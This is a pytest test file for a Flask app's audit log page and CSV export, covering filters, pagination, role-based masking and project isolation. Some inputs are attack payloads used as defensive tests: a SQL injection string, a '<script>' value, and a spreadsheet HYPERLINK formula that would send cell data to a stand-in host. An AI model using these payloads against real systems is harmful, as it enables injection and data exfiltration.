"""The audit log page and its CSV export, as a user sees them."""

import csv
import io
from datetime import timedelta

import pytest
from flask import current_app
from flask import url_for as _url_for
from sqlalchemy import event

from tests.audit.conftest import T0
from webapp.extensions import db
from webapp.services.actors import Actor

PIPELINE_ACTOR = Actor.for_pipeline("Rollout")


@pytest.fixture
def world(project, make, log):
    """A pipeline, two flags, and a handful of entries spread over them."""
    pipeline = log.pipeline(project, "Rollout")
    dark, beta = make.feature(project, "dark_mode"), make.feature(project, "beta_banner")
    dev, _staging, prod = make.environments(project)
    entries = {
        "added": log.entry(project, "RELEASE_PIPELINE_FEATURE_ADDED", "dark_mode added to Rollout",
                           object_type="release_pipeline", object_id=pipeline.id,
                           object_label="Rollout", pipeline_id=pipeline.id, feature_id=dark.id,
                           at=T0),
        "dev": log.entry(project, "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE",
                         "dark_mode on in Development", actor=PIPELINE_ACTOR,
                         object_id=dark.id, object_label="dark_mode", feature_id=dark.id,
                         pipeline_id=pipeline.id, environment_id=dev.id,
                         before={"enabled": False}, after={"enabled": True},
                         at=T0 + timedelta(hours=1)),
        "prod": log.entry(project, "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE",
                          "dark_mode on in Production", actor=PIPELINE_ACTOR,
                          object_id=dark.id, object_label="dark_mode", feature_id=dark.id,
                          pipeline_id=pipeline.id, environment_id=prod.id,
                          before={"enabled": False}, after={"enabled": True},
                          at=T0 + timedelta(days=2)),
        "manual": log.entry(project, "FEATURE_STATE_UPDATED", "beta_banner off in Production",
                            object_id=beta.id, object_label="beta_banner", feature_id=beta.id,
                            environment_id=prod.id, before={"enabled": True},
                            after={"enabled": False, "webhook_token": "tok-123"},
                            at=T0 + timedelta(days=3)),
    }
    return {"pipeline": pipeline, "dark": dark, "beta": beta, "dev": dev, "prod": prod,
            "entries": entries}


def url_for(endpoint, **args):
    with current_app.test_request_context():
        return _url_for(endpoint, **args)


def audit_url(project, **args):
    return url_for("audit.index", project_id=project.id, **args)


def shown(response, world):
    """Names of the world's entries present in the page, newest first."""
    body = response.get_data(as_text=True)
    found = [(body.index(f'id="audit-entry-{e.id}"'), name)
             for name, e in world["entries"].items() if f'id="audit-entry-{e.id}"' in body]
    return [name for _pos, name in sorted(found)]


def test_full_page_lists_entries_newest_first(client, login, admin, project, world):
    login(client, admin)
    response = client.get(audit_url(project))
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "<html" in body and "<h1>Audit log</h1>" in body
    assert shown(response, world) == ["manual", "prod", "dev", "added"]
    assert "Release pipeline Rollout" in body
    assert "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE" in body
    assert "<del" in body and "<ins" in body  # the before/after diff
    assert 'href="' + url_for("audit.export", project_id=project.id) in body
    assert 'hx-push-url="true"' in body and 'method="get"' in body


def test_fragment_is_the_audit_log_block_only(hx, login, viewer, project, world):
    login(hx, viewer)
    response = hx.get(audit_url(project, pipeline=world["pipeline"].id))
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "<html" not in body
    assert body.lstrip().startswith('<div id="audit_log"')
    assert "HX-Request" in response.headers["Vary"]
    assert shown(response, world) == ["prod", "dev", "added"]


@pytest.mark.parametrize("args, expected", [
    (lambda w: {"event_type": "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE"}, ["prod", "dev"]),
    (lambda w: {"pipeline": w["pipeline"].id}, ["prod", "dev", "added"]),
    (lambda w: {"flag": w["beta"].id}, ["manual"]),
    (lambda w: {"flag": w["dark"].id}, ["prod", "dev", "added"]),
    (lambda w: {"environment": w["prod"].id}, ["manual", "prod"]),
    (lambda w: {"actor": "Release pipeline Rollout"}, ["prod", "dev"]),
    (lambda w: {"since": "2025-03-02"}, ["manual", "prod"]),
    (lambda w: {"until": "2025-03-01"}, ["dev", "added"]),  # a day includes all of it
    (lambda w: {"since": "2025-03-01T12:30", "until": "2025-03-01T13:00"}, ["dev"]),
    (lambda w: {"environment": w["prod"].id, "pipeline": w["pipeline"].id}, ["prod"]),
    (lambda w: {"event_type": "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE",
                "since": "2025-03-01T00:00", "until": "2025-03-02T00:00"}, ["dev"]),
    (lambda w: {"actor": "nobody@example.com"}, []),
])
def test_filters_narrow_the_log_and_combine(client, login, admin, project, world, args, expected):
    login(client, admin)
    response = client.get(audit_url(project, **args(world)))
    assert response.status_code == 200
    assert shown(response, world) == expected
    if not expected:
        assert "No audit entries match these filters." in response.get_data(as_text=True)


def test_filter_values_stay_in_the_form_and_the_links(client, login, admin, project, world):
    login(client, admin)
    pipeline_id = world["pipeline"].id
    body = client.get(audit_url(project, pipeline=pipeline_id, since="2025-03-01")).get_data(
        as_text=True)
    assert f'<option selected value="{pipeline_id}">Rollout</option>' in body
    assert 'value="2025-03-01T00:00"' in body
    export = url_for("audit.export", project_id=project.id, pipeline=pipeline_id,
                     since="2025-03-01")
    assert f'href="{export}"'.replace("&", "&amp;") in body


@pytest.mark.parametrize("args, field, message", [
    ({"pipeline": "abc"}, "pipeline", "Pick a pipeline of this project."),
    ({"flag": "1 OR 1=1"}, "flag", "Pick a flag of this project."),
    ({"environment": "-1"}, "environment", "Pick an environment of this project."),
    ({"since": "yesterday"}, "since", "Not a date and time"),
    ({"until": "2025-13-45"}, "until", "Not a date and time"),
    ({"since": "2025-03-05", "until": "2025-03-01"}, "until", "Must not be before From."),
    ({"event_type": "<script>"}, "event_type", "Not an event type."),
])
def test_invalid_filters_answer_422_with_the_message_beside_the_field(
        hx, login, admin, project, world, args, field, message):
    login(hx, admin)
    response = hx.get(audit_url(project, **args))
    body = response.get_data(as_text=True)
    assert response.status_code == 422
    assert f'<p class="error" id="{field}-error">{message}' in body
    assert "audit-entry-" not in body
    assert "<html" not in body


def test_ids_from_another_project_reveal_nothing(client, login, admin, project, world, make, log):
    other = make.project("Other")
    secret_pipeline = log.pipeline(other, "Secret")
    secret_flag = make.feature(other, "secret_flag")
    log.entry(other, "FEATURE_STATE_UPDATED", "secret change", pipeline_id=secret_pipeline.id,
              feature_id=secret_flag.id, object_id=secret_flag.id, object_label="secret_flag")
    login(client, admin)
    for args in ({"pipeline": secret_pipeline.id}, {"flag": secret_flag.id}):
        for endpoint in ("audit.index", "audit.export"):
            response = client.get(url_for(endpoint, project_id=project.id, **args))
            assert response.status_code == 422
            assert b"secret change" not in response.data
    page = client.get(audit_url(project)).get_data(as_text=True)
    assert "secret change" not in page and "Secret" not in page and "secret_flag" not in page


def test_non_members_get_404_and_every_role_may_read(client, login, make, project, world,
                                                     admin, editor, viewer):
    outsider = make.user(project=make.project("Elsewhere"), role="admin")
    login(client, outsider)
    assert client.get(audit_url(project)).status_code == 404
    assert client.get(url_for("audit.export", project_id=project.id)).status_code == 404
    for user in (admin, editor, viewer):
        login(client, user)
        assert client.get(audit_url(project)).status_code == 200


def test_signed_out_visitors_are_sent_to_sign_in(client, project):
    response = client.get(audit_url(project))
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_viewers_and_editors_see_secret_looking_values_masked(client, login, project, world,
                                                              admin, editor, viewer):
    login(client, admin)
    assert "tok-123" in client.get(audit_url(project)).get_data(as_text=True)
    for user in (editor, viewer):
        login(client, user)
        body = client.get(audit_url(project)).get_data(as_text=True)
        assert "tok-123" not in body
        assert "••••••" in body and "masked for your role" in body
        export = client.get(url_for("audit.export", project_id=project.id)).get_data(as_text=True)
        assert "tok-123" not in export and "••••••" in export


def test_pages_go_older_and_newer_by_keyset(client, login, admin, project, log):
    entries = log.many(project, 120, event_type="BULK")
    ids = [e.id for e in entries][::-1]
    login(client, admin)
    first = client.get(audit_url(project, event_type="BULK")).get_data(as_text=True)
    assert f"audit-entry-{ids[0]}" in first and f"audit-entry-{ids[49]}" in first
    assert f"audit-entry-{ids[50]}" not in first
    assert "Newer" not in first
    older = audit_url(project, before=ids[49], event_type="BULK")
    assert f'href="{older}"'.replace("&", "&amp;") in first
    second = client.get(older).get_data(as_text=True)
    assert f"audit-entry-{ids[50]}" in second and f"audit-entry-{ids[99]}" in second
    assert f"audit-entry-{ids[49]}" not in second
    newer = audit_url(project, after=ids[50], event_type="BULK")
    assert f'href="{newer}"'.replace("&", "&amp;") in second
    third = client.get(audit_url(project, before=ids[99], event_type="BULK")).get_data(as_text=True)
    assert f"audit-entry-{ids[119]}" in third and "Older" not in third
    back = client.get(newer).get_data(as_text=True)
    assert f"audit-entry-{ids[0]}" in back and f"audit-entry-{ids[49]}" in back


@pytest.mark.parametrize("cursor", ["before=abc", "after=-5", "before=99999999999999999999999"])
def test_bad_cursors_are_ignored(client, login, admin, project, world, cursor):
    login(client, admin)
    response = client.get(audit_url(project) + "?" + cursor)
    assert response.status_code == 200
    assert shown(response, world) == ["manual", "prod", "dev", "added"]


def test_objects_link_to_their_pages_when_those_pages_exist(client, login, admin, project, world,
                                                            app):
    login(client, admin)
    body = client.get(audit_url(project)).get_data(as_text=True)
    dark = world["dark"]
    if "flags.detail" in app.view_functions:
        rule = next(app.url_map.iter_rules("flags.detail"))
        argument = (rule.arguments - {"project_id"}).pop()
        assert url_for("flags.detail", project_id=project.id, **{argument: dark.id}) in body
    else:
        assert "dark_mode" in body and "/flags/" not in body


def test_csv_export_streams_the_filtered_entries(client, login, admin, project, world):
    login(client, admin)
    response = client.get(url_for("audit.export", project_id=project.id,
                                  pipeline=world["pipeline"].id))
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert list(rows[0]) == ["id", "created_at", "actor", "event_type", "environment",
                             "object_type", "object_id", "object_label", "message", "before",
                             "after", "event", "description"]
    assert [r["message"] for r in rows] == ["dark_mode on in Production",
                                            "dark_mode on in Development",
                                            "dark_mode added to Rollout"]
    prod = rows[0]
    assert prod["actor"] == "Release pipeline Rollout"
    assert prod["environment"] == "Production"
    assert prod["event_type"] == "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE"
    assert prod["before"] == '{"enabled": false}' and prod["after"] == '{"enabled": true}'
    assert prod["created_at"].startswith("2025-03-03T12:00:00")
    # The page's words: the event's label and the sentence with names.
    assert prod["event"] == "Flag changed by a pipeline"
    assert prod["description"] == "dark_mode enabled for everyone in Production by pipeline Rollout"


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_csv_export_neutralises_formulas(client, login, admin, project, make):
    make.feature(project, FORMULA, description="@SUM(1+1)")
    login(client, admin)
    response = client.get(url_for("audit.export", project_id=project.id))
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    [created] = [r for r in rows if r["event_type"] == "FEATURE_CREATED"]
    assert created["object_label"] == "'" + FORMULA  # shown as text, not run
    assert not [cell for row in rows for cell in row.values()
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("dark_mode", "dark_mode"), ("a=b", "a=b"),
    ("", ""), (-5, -5), (None, None),
])
def test_csv_cells_that_could_be_formulas_get_a_quote(cell, written):
    from webapp.csv_export import neutralise

    assert neutralise(cell) == written


def test_csv_export_refuses_invalid_filters_with_422(client, login, admin, project, world):
    login(client, admin)
    response = client.get(url_for("audit.export", project_id=project.id, since="not-a-date"))
    assert response.status_code == 422
    assert b"Not a date and time" in response.data


def _count_queries(client, url):
    statements = []

    def _count(conn, cursor, statement, *args):
        statements.append(statement)

    engine = db.engine
    event.listen(engine, "before_cursor_execute", _count)
    try:
        assert client.get(url).status_code == 200
    finally:
        event.remove(engine, "before_cursor_execute", _count)
    return len(statements)


def test_page_queries_do_not_grow_with_entries(client, login, admin, project, world, log, make):
    login(client, admin)
    url = audit_url(project)
    few = _count_queries(client, url)
    other_flag = make.feature(project, "another")
    pipelines = [log.pipeline(project, f"P{n}") for n in range(3)]
    for n in range(60):
        log.entry(project, f"EVENT_{n % 7}", actor=Actor.for_pipeline(f"P{n % 3}"),
                  pipeline_id=pipelines[n % 3].id, feature_id=other_flag.id,
                  object_id=other_flag.id, object_label="another",
                  environment_id=world["prod"].id, before={"n": n}, after={"n": n + 1})
    many = _count_queries(client, url)
    assert many == few
    assert _count_queries(client, audit_url(project, before=many + 10 ** 6)) <= few + 1
